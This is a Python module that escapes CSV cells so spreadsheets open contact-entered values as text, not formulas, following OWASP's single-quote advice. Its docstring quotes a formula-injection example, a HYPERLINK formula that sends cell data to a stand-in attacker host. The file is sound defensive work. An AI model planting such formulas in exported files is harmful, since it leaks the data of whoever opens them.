"""CSV for spreadsheets, safe to open: no cell a contact typed runs as a formula.

Excel, LibreOffice and Google Sheets evaluate a cell that begins with ``=``, ``+``, ``-`` or
``@`` (and some a tab or carriage return before one): a contact answering
``=HYPERLINK("https://evil.example/?"&A1, "Click")`` would otherwise put a live link, or worse,
in front of whoever opens the results. Such cells get a leading single quote (OWASP's advice),
which spreadsheets show as text. Plain numbers ("-3") are left alone: they cannot be formulas,
and survey answers should stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)")


def safe_cell(value: Any) -> Any:
    """``value`` as a cell that opens as text, never as a formula.

    >>> safe_cell('=HYPERLINK("http://x")'), safe_cell("@SUM(A1)"), safe_cell("-3"), safe_cell(7)
    ('\\'=HYPERLINK("http://x")', "'@SUM(A1)", '-3', 7)
    """
    if isinstance(value, str) and value.startswith(_FORMULA_START) and not _NUMBER.fullmatch(value):
        return f"'{value}"
    return value


def csv_text(columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> str:
    """A header and one line per row (other keys of a row are left out), every cell safe."""
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=columns, extrasaction="ignore")
    writer.writeheader()
    writer.writerows({key: safe_cell(row.get(key)) for key in columns} for row in rows)
    return buffer.getvalue()
